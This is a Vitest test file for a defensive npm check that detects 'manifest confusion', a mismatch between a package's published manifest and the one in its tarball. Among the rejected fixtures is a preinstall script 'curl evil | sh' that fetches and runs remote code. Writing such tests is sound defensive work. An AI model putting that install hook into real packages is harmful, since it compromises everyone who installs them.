import { describe, expect, it } from 'vitest';
import { checkManifestMatchesTarball } from './manifest-check.js';
import { statusOf } from './testing/assertions.js';

const check = (published: Record<string, unknown>, packed: Record<string, unknown>, hasBindingGyp = false) =>
  statusOf(() => checkManifestMatchesTarball({ name: 'p', version: '1.0.0', ...published }, { name: 'p', version: '1.0.0', ...packed }, { hasBindingGyp, base: 'p' }));

describe('manifest confusion check', () => {
  it('accepts identical manifests and npm\'s own normalisations', () => {
    expect(check({ dependencies: { a: '1' }, scripts: { test: 'x' } }, { dependencies: { a: '1' }, scripts: { test: 'x' } })).toBeUndefined();
    expect(check({ bin: { p: 'cli.js' } }, { bin: './cli.js' })).toBeUndefined();
    expect(check({ bin: { tool: 'bin/tool.js' } }, { bin: { tool: './bin//tool.js' } })).toBeUndefined();
    expect(check({ scripts: { install: 'node-gyp rebuild' } }, {}, true)).toBeUndefined();
    expect(check({ dependencies: { a: '1', o: '2' }, optionalDependencies: { o: '2' } }, { dependencies: { a: '1' }, optionalDependencies: { o: '2' } })).toBeUndefined();
    // directories.bin: npm fills bin from the folder, the packed manifest has none
    expect(check({ bin: { x: 'bin/x' } }, { directories: { bin: 'bin' } })).toBeUndefined();
  });

  it.each([
    ['name', { name: 'q' }, {}],
    ['version', { version: '1.0.1' }, {}],
    ['dependencies', { dependencies: { a: '1' } }, { dependencies: { a: '2' } }],
    ['dependencies', {}, { dependencies: { evil: '*' } }],
    ['optionalDependencies', { optionalDependencies: { o: '1' } }, {}],
    ['peerDependencies', { peerDependencies: { r: '1' } }, {}],
    ['scripts', {}, { scripts: { preinstall: 'curl evil | sh' } }],
    ['scripts', { scripts: { install: 'node-gyp rebuild' } }, {}],
    ['bin', { bin: { p: 'a.js' } }, { bin: { p: 'b.js' } }],
    ['bin', {}, { bin: { sneaky: 'x.js' } }],
  ])('refuses a different %s', (field, published, packed) => {
    expect(check(published, packed)).toBe(400);
    expect(() => checkManifestMatchesTarball({ name: 'p', version: '1.0.0', ...published }, { name: 'p', version: '1.0.0', ...packed }, { hasBindingGyp: false, base: 'p' })).toThrow(
      new RegExp(`"${field}"`),
    );
  });
});
